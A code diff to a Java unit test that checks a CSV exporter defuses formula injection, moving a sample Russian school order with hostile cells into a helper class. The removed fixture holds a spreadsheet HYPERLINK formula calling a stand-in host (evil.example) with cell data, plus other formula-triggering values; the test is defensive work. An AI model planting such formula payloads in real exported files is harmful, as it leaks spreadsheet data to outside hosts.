@@ -8,7 +8,6 @@ import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvParser;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
-import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
@@ -89,26 +88,10 @@ class CsvExporterTest {
 
   @Test
   void cellsThatLookLikeFormulasAreDefused() throws Exception {
-    String hostile = """
-        ШКОЛА
-        ПРИКАЗ
-        от 01.09.2023 № 1
-        Об утверждении плана
-        ПРИКАЗЫВАЮ:
-        1. Утвердить план.
-        Директор
-        И.И. Иванов
-
-        | № | Мероприятие | Срок | Ответственный | Результат |
-        |---|---|---|---|---|
-        | 1 | =HYPERLINK("http://evil.example/?x="&A1;"нажмите") | май 2024 | +7 900 000-00-00 | @SUM(A1:A9) |
-        | 2 | -2+3 | июнь 2024 | Иванов И.И. | \tвкладка |
-        """;
-    Order order = OrderParser.builder().build()
-        .parse(new ByteArrayInputStream(hostile.getBytes(StandardCharsets.UTF_8)), "hostile.txt");
+    Order order = HostileOrder.parse();
     byte[] bytes = write(order, CsvExporter.Dialect.EXCEL, StandardCharsets.UTF_8);
     List<List<String>> rows = read(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8), ';');
-    assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"нажмите\")", rows.get(1).get(8));
+    assertEquals("'" + HostileOrder.HYPERLINK, rows.get(1).get(8));
     assertEquals("'+7 900 000-00-00", rows.get(1).get(13));
     assertEquals("'@SUM(A1:A9)", rows.get(1).get(15));
     assertEquals("'-2+3", rows.get(2).get(8));
